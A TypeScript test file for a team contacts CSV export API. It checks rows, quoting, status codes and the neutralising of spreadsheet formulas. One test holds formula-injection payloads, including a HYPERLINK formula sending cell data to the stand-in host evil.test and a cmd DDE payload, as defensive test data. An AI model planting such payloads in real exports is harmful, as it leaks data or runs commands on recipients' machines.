import { CONTACT_CSV_COLUMNS, parseCsv, restoreFormula } from '@grouptrack/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../../testing/test-server';
import type { TestClient } from '../../testing/test-client';

let server: TestServer;
let owner: TestClient;
let teamUID: string;

beforeAll(async () => {
  server = await startTestServer();
  ({ owner, teamUID } = await server.createTeam());
});
afterAll(async () => {
  await server.stop();
});

describe('POST /api/v1/teams/:teamUID/contacts/export', () => {
  it('writes one row per contact and pipeline with sources, tags and answers, exactly as stored', async () => {
    const base = `/api/v1/teams/${teamUID}`;
    const main = (
      await owner.post(`${base}/pipelines`, { nickName: 'Main', stages: [{ name: 'New' }, { name: 'Won' }] })
    ).body.data;
    const side = (
      await owner.post(`${base}/pipelines`, { nickName: 'Side, "quoted"', stages: [{ name: 'Only' }] })
    ).body.data;
    const global = (await owner.post(`${base}/tag-sets`, { name: 'Interests', tags: ['Fitness'] })).body.data;
    const local = (
      await owner.post(`${base}/tag-sets`, { name: 'Stage tags', pipelineId: main.groupUID, tags: ['Hot'] })
    ).body.data;
    const person = (
      await owner.post(`${base}/contacts`, {
        firstName: 'Zoë',
        lastName: 'Müller, Jr.',
        emailAddress: 'zoe@example.test',
        phoneNumber: '+1 555 010 1234',
        sources: [
          { platform: 'facebook', profileId: '123', username: 'zoe.m', url: 'https://facebook.com/zoe.m' },
        ],
        pipeline: {
          pipelineId: main.groupUID,
          stageId: main.stages[1].stageUID,
          questions: [{ question: 'Why?', answer: 'Line one\nline two' }],
        },
        tagIds: [global.tags[0].tagUID, local.tags[0].tagUID],
      })
    ).body.data;
    await owner.put(`${base}/contacts/${person.GTID}/pipelines/${side.groupUID}`, {});
    await owner.post(`${base}/contacts`, { name: 'No Pipeline Person' });

    const response = await owner.post(`${base}/contacts/export`, {});
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('x-matched-contacts')).toBe('2');
    const [header, ...rows] = parseCsv(response.body as string);
    expect(header).toEqual([...CONTACT_CSV_COLUMNS]);
    const column = (row: string[], name: (typeof CONTACT_CSV_COLUMNS)[number]) =>
      row[CONTACT_CSV_COLUMNS.indexOf(name)];
    const zoe = rows.filter((row) => column(row, 'GTID') === person.GTID);
    expect(zoe).toHaveLength(2);
    const inMain = zoe.find((row) => column(row, 'Pipeline') === 'Main')!;
    expect(column(inMain, 'Last Name')).toBe('Müller, Jr.');
    // Neutralised against spreadsheet formulas; our import reads it back as +15550101234.
    expect(column(inMain, 'Phone')).toBe("'+15550101234");
    expect(column(inMain, 'Facebook Profile ID')).toBe('123');
    expect(column(inMain, 'Stage')).toBe('Won');
    expect(column(inMain, 'Global Tags')).toBe('Interests: Fitness');
    expect(column(inMain, 'Pipeline Tags')).toBe('Stage tags: Hot');
    expect(JSON.parse(column(inMain, 'Questions')!)).toEqual([
      { question: 'Why?', answer: 'Line one\nline two' },
    ]);
    expect(zoe.some((row) => column(row, 'Pipeline') === 'Side, "quoted"')).toBe(true);
    const lonely = rows.find((row) => column(row, 'Full Name') === 'No Pipeline Person')!;
    expect(column(lonely, 'Pipeline')).toBe('');
  });

  it('neutralises every cell a spreadsheet would run as a formula, and only those', async () => {
    const base = `/api/v1/teams/${teamUID}`;
    const payloads = {
      firstName: '=HYPERLINK("http://evil.test/?"&A1,"Open")',
      lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
      name: '-2+3 Trouble',
      phoneNumber: '+44 20 7946 0999',
    };
    const tagSet = (await owner.post(`${base}/tag-sets`, { name: '+Leads', tags: ['=hot'] })).body.data;
    await owner.post(`${base}/contacts`, {
      ...payloads,
      emailAddress: 'formula@example.test',
      tagIds: [tagSet.tags[0].tagUID],
    });
    const body = (await owner.post(`${base}/contacts/export`, { searchObj: 'formula@example.test' }))
      .body as string;
    const [, row] = parseCsv(body);
    const column = (name: (typeof CONTACT_CSV_COLUMNS)[number]) => row![CONTACT_CSV_COLUMNS.indexOf(name)]!;
    expect(column('First Name')).toBe(`'${payloads.firstName}`);
    expect(column('Last Name')).toBe(`'${payloads.lastName}`);
    expect(column('Full Name')).toBe(`'${payloads.name}`);
    expect(column('Phone')).toBe("'+442079460999");
    expect(column('Email')).toBe('formula@example.test');
    expect(column('Global Tags')).toBe("'+Leads: =hot");
    // Written quoted, so the quote and the text stay one cell in any reader.
    expect(body).toContain(`"'+442079460999"`);
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(restoreFormula(column('Full Name'))).toBe(payloads.name);
  });

  it('answers 401 signed out, 404 to another team and 400 for a bad filter', async () => {
    const path = `/api/v1/teams/${teamUID}/contacts/export`;
    expect((await server.client().post(path, {})).status).toBe(401);
    expect((await (await server.signUp()).post(path, {})).status).toBe(404);
    expect((await owner.post(path, { objectToFilter: { platforms: ['myspace'] } })).status).toBe(400);
  });
});
